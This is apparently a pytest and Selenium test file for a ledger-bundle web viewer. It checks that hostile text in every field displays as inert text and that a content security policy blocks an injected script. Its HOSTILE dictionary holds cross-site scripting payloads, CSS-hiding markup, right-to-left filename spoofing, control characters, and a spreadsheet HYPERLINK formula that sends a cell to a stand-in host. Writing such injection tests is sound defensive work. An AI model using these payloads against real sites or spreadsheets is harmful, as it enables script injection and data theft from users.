"""Hostile text in every field of what the page shows: nothing runs, nothing breaks out, nothing misleads the eye."""

import json
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import Select

from ledger.application import Ledger
from ledger.entry import Override
from ledger.legible import legible
from ledger.opening import Opening
from ledger.values import Domain
from projections.bundle.bundle import Bundle, make
from projections.bundle.request import Request
from projections.dates import Dates
from tests import desk
from tests.bundle import mutations
from tests.bundle.mutations import Files
from tests.bundle.opened_page import (
    AMBER,
    GREEN,
    RED,
    Open,
    console,
    light,
    opened,
    paste,
    results,
    shown,
    wait_until,
)

__all__ = ["opened"]

pytestmark = pytest.mark.browser

HOSTILE = {
    "script": "</script><script>window.owned=1</script><!--<script>",
    "image": "\"'><img src=x onerror=window.owned=1><svg onload=window.owned=1>",
    "style": "</style></title><style>*{display:none}</style>",
    "attribute": "' onmouseover='window.owned=1' autofocus onfocus='window.owned=1",
    "slot": "{{script}}{{data}}&lt;&amp;&#60;${window.owned=1}`",
    "link": "javascript:window.owned=1",
    "right to left": "\u202egnp.exe\u202d\u2066\u200f abc \u05d3\u05e0\u05d4",
    "control": "\x00\x07\x1b[31mred\x7f\x9b\u2028\u2029\ufeff",
    "long word": "W" * 10_000,
    "marks": "Z" + "\u0301" * 300,
    "emoji": "\U0001f469\u200d\u2696\ufe0f\U0001f1fa\U0001f1f8" * 20,
    "formula": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "lone surrogate": "\ud800 alone",
    "prototype": "__proto__",
}
CODES = {"kind", "mark", "type", "status", "ground", "service", "verdict", "stream", "field", "rule"}
TIMES = {
    "at",
    "occurred_at",
    "recorded_at",
    "as_of",
    "known_at",
    "sealed_at",
    "due",
    "first",
    "last",
    "time_zone",
}
BOUND = {"format", "digest", "leaf_hash", "sha256", "page_sha256", "root", "vkey", "name"}


def replaced(value: Any, text: str, spared: set[str], under: str = "") -> Any:
    """Every string in a document replaced, but for those under names that are spared."""
    if isinstance(value, dict):
        return {name: replaced(held, text, spared, name) for name, held in value.items()}
    if isinstance(value, list):
        return [replaced(held, text, spared, under) for held in value]
    return text if isinstance(value, str) and under not in spared else value


def hostile_files(bundle: Bundle, text: str, spared: set[str]) -> Files:
    """A bundle whose words are hostile; what hashes and signatures bind stays, so that it is shown."""
    changed = dict(bundle.files)
    for name in ("record.json", "analysis.json"):
        document = mutations.part(changed, name)
        shown_names = spared | {"format"} if name == "analysis.json" else spared | BOUND - {"name"}
        hostile = replaced(document, text, shown_names)
        hostile["format"] = document["format"]
        changed[name] = json.dumps(hostile).encode()  # in ASCII, for lone surrogates
    manifest = mutations.part(changed, "manifest.json")
    for one in (*manifest["withheld"], *manifest["texts"]):
        one["reason"] = text
    for one in manifest["texts"]:
        one["field"] = text
    changed["manifest.json"] = json.dumps(manifest).encode()
    mutations.reshow(changed)
    return changed


def stands(chrome: webdriver.Chrome, text: str) -> int:
    """How often a text stands in the page."""
    found: int = chrome.execute_script(
        "return document.querySelector('main').textContent.split(arguments[0]).length"
        " + document.querySelector('header').textContent.split(arguments[0]).length - 2",
        text,
    )
    return found


def fits(chrome: webdriver.Chrome, width: int) -> bool:
    screen = {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": False}
    chrome.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", screen)
    found: bool = chrome.execute_script("return document.documentElement.scrollWidth <= innerWidth")
    return found


def use_everything(chrome: webdriver.Chrome) -> None:
    """Whatever a person can open, filter or move is opened, filtered and moved."""
    for mode in ("recorded", "both"):
        chrome.find_element(By.CSS_SELECTOR, f"input[value={mode}]").click()
    chrome.find_element(By.ID, "happened").send_keys(Keys.HOME, Keys.ARROW_RIGHT, Keys.END)
    chrome.execute_script(
        "for (const button of document.querySelectorAll('.hash, .proof .plain')) button.click();"
        "for (const mark of document.querySelectorAll('#drawing .mark')) mark.focus();"
        "document.getElementById('spans-box').open = true;"
    )
    for field in ("kind", "marked", "lane"):
        options = Select(chrome.find_element(By.NAME, field)).options
        chrome.execute_script(
            "const [option] = arguments; option.selected = true;"
            "option.parentElement.dispatchEvent(new Event('input', {bubbles: true}))",
            options[-1],
        )
    chrome.find_element(By.NAME, "q").send_keys("=<b>")
    wait_until(chrome, lambda: "Filter: text" in chrome.find_element(By.ID, "tally").text)
    chrome.find_element(By.CSS_SELECTOR, "#filter button[type=reset]").click()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_text_is_only_text(name: str, bundle: Bundle, opened: Open) -> None:
    text = HOSTILE[name]
    chrome = opened(hostile_files(bundle, text, CODES | TIMES)[mutations.PAGE])

    assert light(chrome) == RED
    assert chrome.find_element(By.ID, "trouble").text == ""
    assert chrome.find_element(By.TAG_NAME, "h1").get_attribute("textContent") == legible(text)
    assert stands(chrome, legible(text)) > 100
    use_everything(chrome)
    for width in (390, 1280):
        assert fits(chrome, width), width
    tags = chrome.execute_script(
        "return ['script', 'style', 'img', 'iframe'].map(t => document.querySelectorAll(t).length)"
    )
    assert tags == [2, 2, 0, 0]


@pytest.mark.parametrize("name", ["script", "right to left", "long word", "prototype"])
def test_codes_and_times_that_are_none_break_nothing(name: str, bundle: Bundle, opened: Open) -> None:
    chrome = opened(hostile_files(bundle, HOSTILE[name], set())[mutations.PAGE])

    assert light(chrome) == RED
    assert len(shown(chrome)) in {0, 30}
    for width in (390, 1280):
        assert fits(chrome, width), width


def test_the_policy_stops_a_script_that_got_in_all_the_same(
    bundle: Bundle, opened: Open, tmp_path: Path
) -> None:
    chrome = opened(bundle.files["index.html"])
    slipped = (
        "<script>window.owned=1</script><img src=x onerror=window.owned=1><style>h1{display:none}</style>"
    )
    file = tmp_path / "slipped.html"
    file.write_bytes(bundle.files["index.html"].replace(b"<h1", slipped.encode() + b"<h1"))

    chrome.get(file.as_uri())

    wait_until(chrome, lambda: light(chrome) == AMBER)
    assert chrome.find_element(By.TAG_NAME, "h1").is_displayed()
    stopped = {
        entry.split()[1] for entry in chrome.execute_script("return seen.splice(0)") if "policy" in entry
    }
    assert stopped == {"script-src-elem", "script-src-attr", "img-src", "style-src-elem"}
    assert len(console(chrome)) >= 4
    chrome.execute_script("performance.clearResourceTimings()")


# -- recorded, not forged ---------------------------------------------------------------------------------

REFUSED = {"control", "right to left", "lone surrogate"}
RECORDED = {name: text[:190] for name, text in HOSTILE.items() if name not in REFUSED} | {
    "hebrew": "\u05d3\u05e0\u05d4 (\u05de\u05d8\u05e4\u05dc\u05ea), 12"
}
"""What the ledger itself takes in; controls and lone surrogates it refuses."""

_Make = Callable[[str], Bundle]


@pytest.fixture
def recorded(tmp_path: Path) -> _Make:
    """A production of a ledger whose people are called what they are called."""

    def _made(text: str) -> Bundle:
        folder = tmp_path / "ledger"
        folder.mkdir()
        opening = Opening(text, "America/New_York", "director", go_live="2024-01-01", policy=desk.RECOMMENDED)
        with closing(Ledger.create(desk.places(folder), opening)) as ledger:
            staff = desk.staff()
            staff[1].fields["name"] = text
            ledger.record([*staff, desk.client(text), desk.intake(rationale=text), *desk.papers()])
            ledger.record([desk.opening()])
            refused = desk.opening(2, "coaching", intake=None, agreement=None)
            ledger.record([refused], override=Override(authorised_by="director", reason=text, rules=()))
            domains = frozenset({Domain.IDENTITY, Domain.THERAPY, Domain.COACHING})
            request = Request("C-1", reveal=domains, withhold={2: text}, recipient=text)
            return make(ledger, request, "director", Dates(ledger.calendar))

    return _made


@pytest.mark.parametrize("name", RECORDED)
def test_what_was_recorded_is_shown_and_holds(name: str, recorded: _Make, opened: Open) -> None:
    text = RECORDED[name]
    made = recorded(text)

    chrome = opened(made.files["index.html"], width=390)
    paste(chrome, "key", made.manifest["key"])

    wait_until(chrome, lambda: light(chrome) == GREEN)
    assert results(chrome)["words"] == "holds"
    assert legible(text) in (chrome.find_element(By.ID, "e1").get_attribute("textContent") or "")
    use_everything(chrome)
    assert fits(chrome, 390)
